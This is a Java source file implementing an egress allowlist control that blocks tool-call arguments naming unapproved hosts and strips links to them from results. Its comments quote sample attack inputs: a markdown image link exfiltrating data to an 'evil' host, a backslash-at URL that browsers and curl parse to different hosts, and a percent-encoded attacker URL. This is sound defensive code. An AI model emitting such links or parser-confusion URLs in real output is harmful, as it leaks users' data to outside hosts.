package dev.cloakgate.policy.control;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;

import dev.cloakgate.policy.Action;
import dev.cloakgate.policy.Control;
import dev.cloakgate.policy.Findings;
import dev.cloakgate.policy.Stage;
import dev.cloakgate.policy.Subject;
import dev.cloakgate.policy.Texts;

/**
 * Hosts outside the allowlist: refused in arguments, and links to them removed from results (where exfiltration
 * links such as {@code ![x](https://evil/?d=secret)} appear).
 *
 * <p>Allowlist syntax: {@code example.com} allows example.com and every subdomain; {@code =example.com} allows
 * exactly that host; an IP literal ({@code 10.0.0.5}, {@code ::1}, {@code [::1]}) allows exactly that address.
 * Names may be written in Unicode or punycode. Ports, schemes, paths and wildcards are rejected at construction.
 * An empty list allows no host at all.
 *
 * <p>A URL is allowed only if its host is allowed under every reading that a browser (WHATWG) or curl (RFC 3986)
 * would give it: {@code https://evil.com\@example.com} is evil.com to one and example.com to the other, so it is
 * refused. Bare dotted numbers in prose ("version 1.2.3.4") are not hosts; only URLs, and in arguments the values
 * of host-naming keys, are.
 */
public final class EgressControl implements Control {
    public static final String NAME = "egress_control";
    public static final String DENIED = "egress_denied";
    public static final String REMOVED = "egress_link_removed";
    public static final String REPLACEMENT = "[link removed: host not allowed]";

    private static final Set<String> HOST_WORDS = Set.of("host", "hostname", "domain", "url", "uri", "endpoint",
            "webhook", "callback", "server");

    /** One allowlist entry: an address, or a name that allows its subdomains unless {@code exact}. */
    record Entry(String value, boolean ip, boolean exact) {
    }

    /** Why a host is refused, in words that carry no part of it. */
    private enum Why {
        PLAIN(""), IP("IP literal"), HOMOGRAPH("homograph"), UNPARSEABLE("unparseable host");

        final String words;

        Why(String words) {
            this.words = words;
        }
    }

    private final List<Entry> allowed;

    public EgressControl(List<String> allowedHosts) {
        if (allowedHosts == null) {
            throw new IllegalArgumentException("egress_control needs an allowlist (empty allows no host)");
        }
        List<Entry> entries = new ArrayList<>();
        for (String raw : allowedHosts) {
            String e = raw == null ? "" : raw.strip();
            boolean exact = e.startsWith("=");
            if (exact) {
                e = e.substring(1).strip();
            }
            if (e.isEmpty() || e.contains("/") || e.contains("@") || e.contains("*") || e.contains("%")) {
                throw new IllegalArgumentException("egress_control: allowlist entries are host names or IP literals"
                        + " (\"example.com\", \"=example.com\", \"10.0.0.5\"), got an entry with other characters");
            }
            Hosts.Host h = Hosts.parse(e);
            if (h instanceof Hosts.Ip ip) {
                entries.add(new Entry(ip.address(), true, true));
            } else if (h instanceof Hosts.Name n) {
                entries.add(new Entry(n.ascii(), false, exact));
            } else {
                throw new IllegalArgumentException("egress_control: an allowlist entry is not a valid host name"
                        + " or IP literal (no ports or schemes)");
            }
        }
        this.allowed = List.copyOf(entries);
    }

    @Override
    public String name() {
        return NAME;
    }

    @Override
    public boolean appliesTo(Stage stage) {
        return stage == Stage.REQUEST || stage == Stage.RESPONSE;
    }

    @Override
    public void inspect(Subject subject, Findings out) {
        boolean response = subject.stage() == Stage.RESPONSE;
        Texts.visit(subject.payload(), (pointer, key, text) -> {
            String where = pointer.isEmpty() ? "the payload" : pointer;
            // a result string is one URL to a client only under a URL-naming key (a resource link's uri)
            return response ? redact(where, text, hostKey(key), out) : refuse(where, key, text, out);
        });
    }

    /** Arguments: any disallowed host refuses the call; one finding per string. */
    private String refuse(String where, String key, String text, Findings out) {
        Set<Why> whys = new LinkedHashSet<>();
        List<Links.Link> links = Links.in(text, true);
        for (Links.Link l : links) {
            judgeAll(l.hosts(), whys);
        }
        if (hostKey(key) && links.isEmpty()) {
            // "https%3A%2F%2Fevil.com": a client may decode before it fetches
            String decoded = Decoding.percentDecodeFully(text);
            List<Links.Link> decodedLinks = decoded == null ? List.of() : Links.in(decoded, true);
            if (decoded == null) {
                whys.add(Why.UNPARSEABLE);
            } else if (!decodedLinks.isEmpty()) {
                for (Links.Link l : decodedLinks) {
                    judgeAll(l.hosts(), whys);
                }
            } else {
                // as a URL parser reads a host: references decoded, tabs and newlines gone
                String bare = bareHost(Links.cleaned(CharacterReferences.decode(decoded)));
                if (bare != null) {
                    judgeAll(List.of(bare), whys);
                }
            }
        }
        if (!whys.isEmpty()) {
            out.add(Action.BLOCK, DENIED, where + ": host not on the egress allowlist" + qualifiers(whys));
        }
        return null;
    }

    /** Results: links to disallowed hosts are rewritten in place; links to allowed hosts are left alone. */
    private String redact(String where, String text, boolean whole, Findings out) {
        List<Links.Link> links = Links.in(text, whole);
        if (links.isEmpty()) {
            return null;
        }
        StringBuilder b = new StringBuilder(text.length());
        Set<Why> whys = new LinkedHashSet<>();
        int removed = 0;
        int at = 0;
        for (Links.Link l : links) {
            Set<Why> these = new LinkedHashSet<>();
            judgeAll(l.hosts(), these);
            if (these.isEmpty()) {
                continue;
            }
            whys.addAll(these);
            removed++;
            b.append(text, at, l.start()).append(REPLACEMENT);
            at = l.end();
        }
        if (removed == 0) {
            return null;
        }
        b.append(text, at, text.length());
        out.add(Action.REDACT, REMOVED, where + ": " + removed + (removed == 1 ? " link" : " links")
                + " to a host not on the egress allowlist removed" + qualifiers(whys));
        return b.toString();
    }

    private static String qualifiers(Set<Why> whys) {
        StringBuilder b = new StringBuilder();
        for (Why w : whys) {
            if (!w.words.isEmpty()) {
                b.append(b.length() == 0 ? " (" : ", ").append(w.words);
            }
        }
        return b.length() == 0 ? "" : b.append(')').toString();
    }

    private void judgeAll(List<String> hosts, Set<Why> whys) {
        for (String h : hosts) {
            Why w = judge(h);
            if (w != null) {
                whys.add(w);
            }
        }
    }

    /** Null when allowed, else why not. */
    private Why judge(String hostText) {
        Hosts.Host h = Hosts.parse(hostText);
        if (h instanceof Hosts.Ip ip) {
            for (Entry e : allowed) {
                if (e.ip && e.value.equals(ip.address())) {
                    return null;
                }
            }
            return Why.IP;
        }
        if (!(h instanceof Hosts.Name n)) {
            return Why.UNPARSEABLE;
        }
        for (Entry e : allowed) {
            if (e.ip) {
                continue;
            }
            if (n.ascii().equals(e.value)) {
                return null; // the operator named this exact host, whatever script it is in
            }
            if (!e.exact && n.ascii().endsWith("." + e.value)) {
                // the subdomain labels are the caller's choice: they must not pass for Latin lookalikes
                int sub = countDots(n.ascii()) - countDots(e.value);
                return Hosts.homograph(n.unicode(), sub) ? Why.HOMOGRAPH : null;
            }
        }
        return Hosts.homograph(n.unicode(), -1) ? Why.HOMOGRAPH : Why.PLAIN;
    }

    private static int countDots(String s) {
        int c = 0;
        for (int i = 0; i < s.length(); i++) {
            if (s.charAt(i) == '.') {
                c++;
            }
        }
        return c;
    }

    // --- what names a host ---

    /** The key, or the last word of a compound key (webhookUrl, callback_url, smtp-host), names a host. */
    static boolean hostKey(String key) {
        if (key == null || key.isEmpty()) {
            return false;
        }
        String k = key.toLowerCase(Locale.ROOT);
        if (HOST_WORDS.contains(k.replace("_", "").replace("-", ""))) {
            return true;
        }
        for (int i = key.length() - 1; i > 0; i--) {
            char c = key.charAt(i);
            if (c == '_' || c == '-' || c == '.') {
                return HOST_WORDS.contains(k.substring(i + 1));
            }
            if (Character.isUpperCase(c) && Character.isLowerCase(key.charAt(i - 1))) {
                return HOST_WORDS.contains(k.substring(i));
            }
        }
        return false;
    }

    /**
     * A host-naming argument with no URL in it: {@code evil.com}, {@code evil.com:8080/x}, {@code ::1},
     * {@code user:pw@evil.com}. Opaque URIs ({@code mailto:}) and prose (whitespace) are not hosts.
     */
    private static String bareHost(String value) {
        String v = value.strip();
        if (v.isEmpty()) {
            return null;
        }
        for (int i = 0; i < v.length(); i++) {
            if (Character.isWhitespace(v.charAt(i))) {
                return null;
            }
        }
        if (v.startsWith("/") || v.startsWith("\\") || v.startsWith(".")) {
            return null; // a path (relative, like ./a), not a host
        }
        int colon = v.indexOf(':');
        if (colon >= 0 && colon == v.lastIndexOf(':') || colon < 0) {
            int at = v.indexOf('@');
            if (colon > 0 && (at < 0 || v.regionMatches(true, 0, "mailto:", 0, 7)) && isScheme(v, colon)
                    && !(colon + 1 < v.length() && Character.isDigit(v.charAt(colon + 1)))) {
                return null; // mailto:x@y, urn:isbn:..: not an authority
            }
        } else if (v.indexOf('[') < 0 && v.indexOf('/') < 0 && v.indexOf('@') < 0) {
            return v; // several colons, no brackets: a bare IPv6 literal
        }
        int end = v.length();
        for (int i = 0; i < v.length(); i++) {
            char c = v.charAt(i);
            if (c == '/' || c == '\\' || c == '?' || c == '#') {
                end = i;
                break;
            }
        }
        String h = Links.hostOf(v.substring(0, end));
        return h.isEmpty() ? null : h;
    }

    private static boolean isScheme(String v, int colon) {
        if (!Links.letter(v.charAt(0))) {
            return false;
        }
        for (int i = 1; i < colon; i++) {
            if (!Links.schemeChar(v.charAt(i)) || v.charAt(i) == '.') {
                return false; // a dot before the colon reads as host:port
            }
        }
        return true;
    }
}
